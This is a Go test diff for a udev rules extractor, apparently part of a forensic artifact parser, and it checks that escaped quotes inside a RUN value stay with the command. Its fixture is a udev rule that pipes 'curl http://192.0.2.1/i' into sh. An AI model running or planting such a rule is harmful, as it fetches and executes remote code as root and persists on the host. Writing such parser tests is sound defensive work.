@@ -27,3 +27,11 @@ func TestLongRule(t *testing.T) {
 		t.Errorf("%s%v", artifacttest.Lines(records), err)
 	}
 }
+
+// TestQuotes: quotes that are escaped within a value belong to the command.
+func TestQuotes(t *testing.T) {
+	records, err := artifacttest.Extract(t, Extractor{}, artifacttest.File{Path: "/etc/udev/rules.d/x.rules", Text: `RUN+="/bin/sh -c \"curl http://192.0.2.1/i \| sh\""` + "\n"})
+	if err != nil || len(records) != 1 || !strings.HasPrefix(records[0].Get("command"), `/bin/sh -c "curl `) {
+		t.Errorf("%s%v", artifacttest.Lines(records), err)
+	}
+}
